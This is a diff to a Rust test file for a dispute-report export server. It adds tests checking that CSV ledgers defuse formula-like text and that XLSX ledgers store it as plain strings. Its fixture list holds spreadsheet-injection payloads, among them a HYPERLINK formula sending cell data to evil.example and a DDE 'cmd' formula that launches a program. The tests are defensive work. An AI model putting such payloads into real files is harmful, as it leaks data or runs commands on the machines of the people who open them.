@@ -11,6 +11,8 @@ use axum::body::Body;
 use axum::http::{HeaderMap, Request, StatusCode, header};
 use calamine::{Reader, Xlsx};
 use gridsync_core::DocId;
+use gridsync_core::attachment::Attachment;
+use gridsync_core::report::{Editor, ReportDoc};
 use gridsync_server::config::Config;
 use gridsync_server::http::{AppState, app};
 use gridsync_server::scope::Role;
@@ -19,7 +21,7 @@ use http_body_util::BodyExt;
 use serde_json::{Value, json};
 use sha2::Digest;
 use support::http::add_users_with_devices;
-use support::{TestStore, file_report, seed_org};
+use support::{TestStore, admin, file_report, is_acked, object, push_all, registry, seed_org};
 use tower::ServiceExt;
 
 on_both_test_stores!(
@@ -29,7 +31,26 @@ on_both_test_stores!(
     a_ledger_holds_only_its_period_and_the_callers_scope,
     drug_control_exports_are_audited,
     bad_export_parameters_are_answered_400_or_404,
+    csv_ledgers_defuse_formulas_in_every_text_cell,
+    xlsx_ledgers_write_formula_text_as_string_cells,
 );
+
+/// Values a worker could write into a report (or name an attachment on a phone) that a
+/// spreadsheet would run as a formula when it opens a CSV file.
+const HOSTILE: [&str; 9] = [
+    "=HYPERLINK(\"http://evil.example/?\"&E2&F2,\"查看\")",
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "-",
+];
+
+/// Text that starts harmlessly and must come out as written.
+const HARMLESS: [&str; 4] = ["宅基地边界争议", "a=1+1", "'=1+1", " =1+1"];
 
 const PHOTO: &[u8] = b"\xff\xd8\xff\xe0 not really a photo";
 
@@ -486,4 +507,123 @@ async fn bad_export_parameters_are_answered_400_or_404(t: &TestStore) {
     )
     .await;
     assert_eq!(got.status, StatusCode::NOT_FOUND);
+}
+
+/// Dispute 100 + i in g1 with `text` as its description, the method of its mediation step and
+/// the name of a photo attached to it, as a phone would write them.
+async fn file_with_text(store: &dyn Store, i: usize, text: &str) -> String {
+    let by = Editor::new("admin", 1_000);
+    let id = DocId::from_u128(100 + i as u128);
+    let mut doc = ReportDoc::create(id, "dispute_check", 1, "g1", &by).expect("create");
+    let fields = json!({"category": "other", "parties": "某", "description": text,
+                        "found_on": "2026-10-03", "risk_level": "low", "status": "mediating"});
+    doc.set_fields(&object(fields), &by).expect("fields");
+    let step = json!({"date": "2026-10-05", "mediator": "c1", "method": text, "outcome": "和解"});
+    doc.append_log(&object(step), &by).expect("log");
+    doc.attach(
+        Attachment {
+            sha256: hex::encode(sha2::Sha256::digest(text.as_bytes())),
+            media_type: "image/jpeg".into(),
+            size: 100,
+            name: text.into(),
+            field: "site_photos".into(),
+            entry: None,
+            taken_at: "2026-10-03T10:00:00Z".into(),
+            location: None,
+            attached_by: String::new(),
+        },
+        &by,
+    )
+    .expect("attach");
+    let result = store
+        .ingest(&admin(), &push_all(&mut [&mut doc]), &registry())
+        .await
+        .expect("ingest");
+    assert!(is_acked(&result.docs[0].outcome), "{:?}", result.docs[0]);
+    id.to_string()
+}
+
+async fn csv_ledgers_defuse_formulas_in_every_text_cell(t: &TestStore) {
+    let (app, state) = seed(t).await;
+    let values: Vec<&str> = HOSTILE.iter().chain(HARMLESS.iter()).copied().collect();
+    let mut ids = Vec::new();
+    for (i, text) in values.iter().enumerate() {
+        ids.push(file_with_text(t.store.as_ref(), i, text).await);
+    }
+    let expected = |text: &str| {
+        if HOSTILE.contains(&text) {
+            format!("'{text}")
+        } else {
+            text.to_owned()
+        }
+    };
+    let reports = csv_rows(
+        &get(
+            &app,
+            &state,
+            "admin",
+            "/api/v1/export?kind=dispute_check&format=csv&from=2026-10-01",
+        )
+        .await
+        .bytes,
+    );
+    let description = reports[0].iter().position(|h| h == "纠纷简要情况").unwrap();
+    let attachments = reports[0].iter().position(|h| h == "附件").unwrap();
+    let log = csv_rows(
+        &get(
+            &app,
+            &state,
+            "admin",
+            "/api/v1/export?kind=dispute_check&format=csv&part=log",
+        )
+        .await
+        .bytes,
+    );
+    let method = log[0].iter().position(|h| h == "调解方式").unwrap();
+    for (text, id) in values.iter().zip(&ids) {
+        let row = reports
+            .iter()
+            .find(|r| &r[0] == id)
+            .expect("the report's row");
+        assert_eq!(row[description], expected(text), "description {text:?}");
+        assert!(
+            row[attachments].starts_with(&format!("{} image/jpeg sha256:", expected(text))),
+            "attachment named {text:?}: {:?}",
+            row[attachments]
+        );
+        let entry = log.iter().find(|r| &r[0] == id).expect("the step's row");
+        assert_eq!(entry[method], expected(text), "mediation method {text:?}");
+    }
+    // Cells the server writes stay as they were: ids, dates, choice labels, names.
+    let first = reports.iter().find(|r| r[0] == id(1)).unwrap();
+    assert_eq!(first[1..5], ["东岭镇", "上坪村", "一网格", "邻里纠纷"]);
+    assert_eq!(first[9], "2026-10-03");
+}
+
+async fn xlsx_ledgers_write_formula_text_as_string_cells(t: &TestStore) {
+    let (app, state) = seed(t).await;
+    let id = file_with_text(t.store.as_ref(), 0, "=1+1").await;
+    let got = get(
+        &app,
+        &state,
+        "admin",
+        "/api/v1/export?kind=dispute_check&from=2026-10-01",
+    )
+    .await;
+    assert_eq!(got.status, StatusCode::OK);
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(got.bytes)).expect("an XLSX file");
+    for sheet in book.sheet_names() {
+        let formulas = book.worksheet_formula(&sheet).expect("formulas");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{sheet} holds a formula"
+        );
+    }
+    let reports = book.worksheet_range("矛盾纠纷排查").expect("sheet");
+    let row = reports
+        .rows()
+        .find(|r| r[0] == calamine::Data::String(id.clone()))
+        .expect("the report's row");
+    // Written as text, not defused: a workbook keeps text and formulas apart.
+    assert_eq!(row[7], calamine::Data::String("=1+1".into()));
 }
